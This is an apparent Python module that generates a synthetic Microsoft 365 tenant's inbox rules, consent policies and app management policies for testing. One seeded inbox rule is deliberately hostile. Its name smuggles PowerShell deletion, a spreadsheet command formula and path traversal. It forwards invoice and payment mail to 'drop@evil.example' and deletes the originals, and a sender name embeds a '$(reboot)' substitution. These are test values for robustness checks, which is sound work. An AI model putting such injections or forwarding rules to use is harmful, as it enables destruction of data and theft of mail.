"""Consent policies, app management policies and inbox rules: what the tenant begins with, and what was since."""

from __future__ import annotations

from typing import Any

from appgov_lib.sample import consent, fixed, guardrails, ids
from appgov_lib.sample.collections import Plain
from appgov_lib.sample.directory import Directory
from appgov_lib.sample.edits import Edits, Record
from appgov_lib.sample.world import World

MAILBOXES = 6
"""How many users begin with inbox rules."""
_RULES: tuple[tuple[str, dict[str, Any], dict[str, Any]], ...] = (
    ("Newsletters", {"senderContains": ["newsletter"]}, {"moveToFolder": "AQMkADAwNews", "stopProcessingRules": True}),
    (
        "'; Remove-Item / # =cmd|'/c calc'!A1 ../../x",
        {"subjectContains": ["invoice", "payment"]},
        {
            "forwardTo": [{"emailAddress": {"name": "\u2019$(reboot)", "address": "drop@evil.example"}}],
            "delete": True,
            "stopProcessingRules": True,
        },
    ),
)


def mail_rules(world: World, edits: Edits, user_id: str) -> list[Record]:
    """The inbox rules of a user, as Graph shows them."""
    first = [world.user_ids[int(user)] for user in world.active_users[:MAILBOXES]]
    return edits.mail_rules.over(user_id, [] if user_id not in first else _rules(world, user_id))


def _rules(world: World, user_id: str) -> list[Record]:
    """The rules that a mailbox begins with; one has a name that tries to break out of a script."""
    return [
        {
            "id": f"AQAAA{ids.opaque(world.seed, 'inbox rule', f'{user_id}/{number}')[:6]}=",
            "displayName": name,
            "sequence": number + 1,
            "isEnabled": True,
            "hasError": False,
            "isReadOnly": False,
            "conditions": conditions,
            "actions": actions,
        }
        for number, (name, conditions, actions) in enumerate(_RULES)
    ]


def grant_policies(world: World, edits: Edits) -> list[tuple[Record, list[Record], list[Record]]]:
    """(policy, includes, excludes) of every consent policy as it is now."""
    start = {policy["id"]: (policy, includes, excludes) for policy, includes, excludes in consent.grant_policies(world)}
    nothing: tuple[Record, list[Record], list[Record]] = ({}, [], [])
    found = []
    for policy in edits.consent_policies.over("", [policy for policy, _, _ in start.values()]):
        _, includes, excludes = start.get(policy["id"], nothing)
        rules = edits.conditions.over
        found.append((policy, rules(f"{policy['id']}/includes", includes), rules(f"{policy['id']}/excludes", excludes)))
    return found


def grant_policy_list(world: World, edits: Edits) -> Plain:
    """Consent policies, to be expanded by what they include and exclude."""
    found = grant_policies(world, edits)
    expanders = {"includes": lambda place: found[place][1], "excludes": lambda place: found[place][2]}
    return fixed.fixed_list(fixed.encoded([policy for policy, _, _ in found]), expanders)


def app_policies(directory: Directory, edits: Edits) -> list[tuple[Record, list[str]]]:
    """(app management policy, ids of the registrations it holds for)."""
    start = {policy["id"]: (policy, places) for policy, places in guardrails.app_management_policies(directory.world)}
    found = []
    for policy in edits.app_policies.over("", [policy for policy, _ in start.values()]):
        _, places = start.get(policy["id"], (policy, []))
        numbers = [int(directory.world.registered.searchsorted(place)) for place in places]
        held = [{"id": directory.application_id(number)} for number in numbers]
        found.append((policy, [each["id"] for each in edits.limited.over(policy["id"], held)]))
    return found


def app_policy_list(directory: Directory, edits: Edits) -> Plain:
    """App management policies, to be expanded by the registrations they apply to."""
    found = app_policies(directory, edits)
    numbers = {directory.application_id(number): number for number in range(directory.application_count)}

    def concerned(place: int) -> list[Record]:
        """The registrations of a policy."""
        rows = [fixed.decoded(directory.brief_application(numbers[key])) for key in found[place][1]]
        return [{"@odata.type": "#microsoft.graph.application", **row} for row in rows]

    return fixed.fixed_list(fixed.encoded([policy for policy, _ in found]), {"appliesTo": concerned})
